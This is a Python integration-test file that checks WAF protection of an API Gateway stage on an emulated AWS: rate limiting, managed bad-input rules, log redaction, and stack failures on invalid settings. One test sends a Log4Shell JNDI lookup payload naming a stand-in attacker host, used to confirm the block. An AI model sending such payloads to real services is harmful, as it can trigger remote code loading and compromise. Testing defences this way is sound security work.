"""A web ACL before an API: associated by a stack, counting, refusing, logging, and refused where AWS refuses it."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from uuid import uuid4

import pytest
from botocore.exceptions import ClientError

from tests.integration.conftest import EmbeddedAws
from tests.integration.local_aws.cfn_stacks import Stack, template
from tests.integration.local_aws.support import eventually, http

LIMIT = 10


def visibility(name: str) -> dict[str, Any]:
    return {"CloudWatchMetricsEnabled": True, "SampledRequestsEnabled": False, "MetricName": name}


def protected_api(name: str, **changes: Any) -> dict[str, Any]:
    """An API of one mock route behind an ACL with a rate rule and AWS's known bad inputs."""
    body = {
        "openapi": "3.0.1",
        "info": {"title": name, "version": "1"},
        "paths": {
            "/hello": {
                "get": {
                    "responses": {"200": {"description": "ok"}},
                    "x-amazon-apigateway-integration": {
                        "type": "mock",
                        "requestTemplates": {"application/json": '{"statusCode": 200}'},
                        "responses": {"default": {"statusCode": "200"}},
                    },
                }
            }
        },
    }
    resources: dict[str, Any] = {
        "Api": ("AWS::ApiGateway::RestApi", {"Name": name, "Body": body}),
        "Deployment": ("AWS::ApiGateway::Deployment", {"RestApiId": {"Ref": "Api"}}),
        "Stage": (
            "AWS::ApiGateway::Stage",
            {"RestApiId": {"Ref": "Api"}, "DeploymentId": {"Ref": "Deployment"}, "StageName": "live"},
        ),
        "Acl": (
            "AWS::WAFv2::WebACL",
            {
                "Name": name,
                "Scope": "REGIONAL",
                "DefaultAction": {"Allow": {}},
                "VisibilityConfig": visibility(name),
                "Rules": [
                    {
                        "Name": "rate",
                        "Priority": 0,
                        "Action": {"Block": {}},
                        "Statement": {"RateBasedStatement": {"AggregateKeyType": "IP", "Limit": str(LIMIT)}},
                        "VisibilityConfig": visibility("rate"),
                    },
                    {
                        "Name": "inputs",
                        "Priority": 1,
                        "OverrideAction": {"None": {}},
                        "Statement": {
                            "ManagedRuleGroupStatement": {
                                "VendorName": "AWS",
                                "Name": "AWSManagedRulesKnownBadInputsRuleSet",
                            }
                        },
                        "VisibilityConfig": visibility("inputs"),
                    },
                ],
            },
        ),
        "Association": (
            "AWS::WAFv2::WebACLAssociation",
            {
                "ResourceArn": {"Fn::Sub": "arn:aws:apigateway:${AWS::Region}::/restapis/${Api}/stages/${Stage}"},
                "WebACLArn": {"Fn::GetAtt": ["Acl", "Arn"]},
            },
        ),
        "Logs": ("AWS::Logs::LogGroup", {"LogGroupName": f"aws-waf-logs-{name}"}),
        "Logging": (
            "AWS::WAFv2::LoggingConfiguration",
            {
                "ResourceArn": {"Fn::GetAtt": ["Acl", "Arn"]},
                "LogDestinationConfigs": [
                    {"Fn::Sub": "arn:aws:logs:${AWS::Region}:${AWS::AccountId}:log-group:${Logs}"}
                ],
                "RedactedFields": [{"SingleHeader": {"Name": "x-api-key"}}],
            },
        ),
    }
    resources.update(changes)
    return template(
        resources, Outputs={"Api": {"Value": {"Ref": "Api"}}, "Acl": {"Value": {"Fn::GetAtt": ["Acl", "Arn"]}}}
    )


@pytest.fixture
def name() -> str:
    return f"waf-{uuid4().hex[:8]}"


def test_an_address_that_asks_too_often_is_refused_and_logged(
    client: Callable[..., Any], embedded_aws: EmbeddedAws, name: str
) -> None:
    stack = Stack(client)
    assert stack.create(protected_api(name)) == "CREATE_COMPLETE", stack.reasons()
    url = f"{embedded_aws.endpoint_url}/_aws/execute-api/{stack.outputs()['Api']}/live/hello"

    def ask(address: str, **headers: str) -> int:
        return http("GET", url, headers={"X-Forwarded-For": address, "x-api-key": "secret-key", **headers}).status

    statuses = [ask("198.51.100.7") for _ in range(LIMIT + 2)]
    assert statuses == [200] * LIMIT + [403, 403]
    assert ask("198.51.100.8") == 200, "another address is let in"
    assert ask("198.51.100.8", **{"User-Agent": "${jndi:ldap://evil.example/a}"}) == 403
    logs = client("logs")
    events = eventually(
        lambda: (
            found if len(found := logs.filter_log_events(logGroupName=f"aws-waf-logs-{name}")["events"]) >= 3 else []
        )
    )
    lines = [json.loads(event["message"]) for event in events]
    assert sorted({line["terminatingRuleId"] for line in lines}) == ["inputs", "rate"]
    assert "secret-key" not in json.dumps(lines)

    # Without its ACL the stage is open again, and the ACL goes with the stack.
    client("wafv2").disassociate_web_acl(
        ResourceArn=f"arn:aws:apigateway:us-east-1::/restapis/{stack.outputs()['Api']}/stages/live"
    )
    assert ask("198.51.100.7") == 200
    assert stack.delete() == "DELETE_COMPLETE"
    assert name not in [acl["Name"] for acl in client("wafv2").list_web_acls(Scope="REGIONAL")["WebACLs"]]


def test_logging_is_described_and_ends(client: Callable[..., Any], name: str) -> None:
    stack = Stack(client)
    assert stack.create(protected_api(name)) == "CREATE_COMPLETE", stack.reasons()
    waf, acl = client("wafv2"), stack.outputs()["Acl"]
    shown = waf.get_logging_configuration(ResourceArn=acl)["LoggingConfiguration"]
    assert shown["LogDestinationConfigs"] == [f"arn:aws:logs:us-east-1:000000000000:log-group:aws-waf-logs-{name}"]
    waf.delete_logging_configuration(ResourceArn=acl)
    with pytest.raises(ClientError, match="WAFNonexistentItemException"):
        waf.get_logging_configuration(ResourceArn=acl)
    stack.delete()


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        pytest.param(
            {"Logs": ("AWS::Logs::LogGroup", {"LogGroupName": "/waf/logs"})}, "begins with aws-waf-logs-", id="log-name"
        ),
        pytest.param(
            {
                "Association": (
                    "AWS::WAFv2::WebACLAssociation",
                    {
                        "ResourceArn": "arn:aws:apigateway:us-east-1::/restapis/nothing/stages/live",
                        "WebACLArn": {"Fn::GetAtt": ["Acl", "Arn"]},
                    },
                )
            },
            "WAFUnavailableEntityException",
            id="stage-that-does-not-exist",
        ),
    ],
)
def test_what_waf_refuses_fails_the_stack(
    client: Callable[..., Any], name: str, changes: dict[str, Any], reason: str
) -> None:
    stack = Stack(client)
    assert stack.create(protected_api(name, **changes)) == "ROLLBACK_COMPLETE"
    assert any(reason in one for one in stack.reasons()), stack.reasons()
    stack.delete()
